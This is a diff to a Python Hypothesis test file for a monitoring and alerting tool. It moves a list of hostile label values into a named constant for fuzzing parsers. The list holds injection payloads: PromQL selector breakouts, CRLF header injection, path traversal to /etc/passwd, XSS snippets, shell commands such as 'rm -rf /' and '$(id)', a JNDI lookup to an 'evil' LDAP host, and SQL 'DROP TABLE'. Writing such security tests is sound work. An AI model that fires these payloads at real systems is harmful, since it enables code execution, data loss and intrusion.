@@ -14,13 +14,14 @@ DNS_LABEL = st.one_of(st.sampled_from(["shop", "checkout", "payments", "drill-a"
                       st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=12))
 # Values that have broken parsers and query builders elsewhere: PromQL/selector/markup/SQL/shell/JNDI
 # fragments, look-alike Unicode, control characters, empty and over-long values.
-HOSTILE = st.sampled_from([
+HOSTILE_VALUES = [
     'shop"} or vector(1) #', 'shop",namespace=~".+', "shop\"}[5m]) or up{x=\"", "a,b=c", "app!=x", "a in (b,c)",
     "x=y,z", "shop\n", "shop\r\nX-Injected: 1", "shop\x00", "ｓｈｏｐ", "SHOP", "-shop", "shop-", "sh op", "shop.",
     "..", "../../etc/passwd", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
     "`rm -rf /`", "$(id)", "${jndi:ldap://evil/x}", "'; DROP TABLE alerts; --", "{labels.namespace}", "{{7*7}}",
     "%00", "\\", '"', "\u202eevil", "\ud800", "a" * 64, "a" * 254, "a" * 5000, "", " ", "PodCrashLooping\n",
-])
+]
+HOSTILE = st.sampled_from(HOSTILE_VALUES)
 LABEL_VALUE = st.one_of(DNS_LABEL, HOSTILE, st.text(max_size=16))
 LABEL_NAME = st.one_of(
     st.sampled_from(["alertname", "namespace", "deployment", "service", "pod", "severity", "job", "instance"]),
